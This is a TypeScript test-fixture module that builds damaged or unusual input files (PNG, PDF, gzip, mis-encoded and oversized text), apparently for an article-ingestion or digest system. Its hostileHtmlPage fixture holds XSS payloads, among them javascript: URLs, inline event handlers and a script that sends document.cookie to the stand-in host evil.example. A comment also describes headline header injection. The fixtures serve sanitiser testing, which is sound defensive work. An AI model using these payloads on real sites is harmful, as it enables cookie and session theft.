import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { plainTextArticle } from './article-file-factory.js';

/** Files editors drop by mistake or that arrive damaged, built byte by byte. */

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A valid 1×1 red PNG: signature, IHDR, deflated IDAT and IEND with their CRCs. */
export function pngImage(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(1, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour RGB
  const pixels = deflateSync(Buffer.from([0, 255, 0, 0])); // filter byte + one pixel
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', pixels), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A valid one-page PDF with a line of text, its cross-reference table at the right offsets. */
export function pdfDocument(text = 'Council approves harbour terminal'): Buffer {
  const content = `BT /F1 12 Tf 20 100 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let pdf = '%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(pdf, 'latin1'));
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(pdf, 'latin1');
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  pdf += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}

/** An article compressed with gzip, as a careless `aws s3 cp --content-encoding` leaves it. */
export function gzipArticle(): Buffer {
  return gzipSync(Buffer.from(plainTextArticle().text));
}

/** Plain text of `bytes` bytes made of whole article paragraphs. */
export function largeText(bytes: number): Buffer {
  const paragraph = `${plainTextArticle().text}\n`;
  return Buffer.from(paragraph.repeat(Math.ceil(bytes / paragraph.length)).slice(0, bytes));
}

/** One line of `bytes` bytes of running sentences, no newline anywhere. */
export function singleLine(bytes: number): Buffer {
  const sentence = 'The harbour authority said on Tuesday that the new container terminal would open in March after two years of delays. ';
  return Buffer.from(sentence.repeat(Math.ceil(bytes / sentence.length)).slice(0, bytes));
}

/** Text as UTF-16 without a byte-order mark, little- or big-endian. */
export function utf16WithoutBom(text: string, order: 'le' | 'be'): Buffer {
  const bytes = Buffer.from(text, 'utf16le');
  return order === 'le' ? bytes : bytes.swap16();
}

/** Latin-1 bytes: not valid UTF-8 wherever an accented letter stands. */
export function latin1(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

/** UTF-8 text damaged by one truncated multi-byte sequence (0xC3 followed by ASCII) in the last paragraph. */
export function utf8WithBrokenSequence(text: string): Buffer {
  const cut = text.lastIndexOf('\n\n');
  return Buffer.concat([Buffer.from(text.slice(0, cut)), Buffer.from([0x0a, 0x0a, 0xc3, 0x28]), Buffer.from(text.slice(cut + 2))]);
}

const PARAGRAPH =
  'The harbour authority said on Tuesday that the new container terminal would open in March, after two years of delays caused by funding disputes and a strike by dock workers.';

/** An HTML page full of script: script elements, inline handlers, javascript: links and URLs. */
export function hostileHtmlPage(headline: string): Buffer {
  return Buffer.from(`<!doctype html>
<html><head>
<title>${headline}</title>
<meta property="og:url" content="javascript:alert('og')">
<link rel="canonical" href="javascript:alert('canonical')">
<script>document.location = 'https://evil.example/?c=' + document.cookie;</script>
</head>
<body onload="alert('body')">
<article>
<h1 onmouseover="alert('h1')">${headline}</h1>
<p onclick="alert('p')">${PARAGRAPH}</p>
<p><a href="javascript:alert('link')">Read the full story</a> on the authority's site. ${PARAGRAPH}</p>
<img src="x.png" onerror="alert('img')">
<script>alert('inline')</script>
<iframe src="javascript:alert('frame')"></iframe>
<p>Dock workers returned to work on Monday after the strike ended. The union said talks on pay would resume next month.</p>
</article>
</body></html>
`);
}

/**
 * An article whose headline (in its JSON-LD, where pages keep the real headline) holds CR/LF,
 * a header injection and an mj-raw block that would put raw HTML into the digest.
 */
export function headlineInjectionPage(headline: string): Buffer {
  const jsonLd = JSON.stringify({ '@context': 'https://schema.org', '@type': 'NewsArticle', headline }).replace(/</g, '\\u003c');
  return Buffer.from(`<!doctype html>
<html><head><title>Harbour news</title><script type="application/ld+json">${jsonLd}</script></head>
<body><article><h1>Harbour news</h1>
<p>Gale-force winds closed the northern port on Friday night, and coastguard crews moved fishing boats to the inner basin as waves broke over the sea wall.</p>
<p>Ferry services to the islands were cancelled until Sunday. Forecasters expect the storm to ease by the middle of next week.</p>
</article></body></html>
`);
}
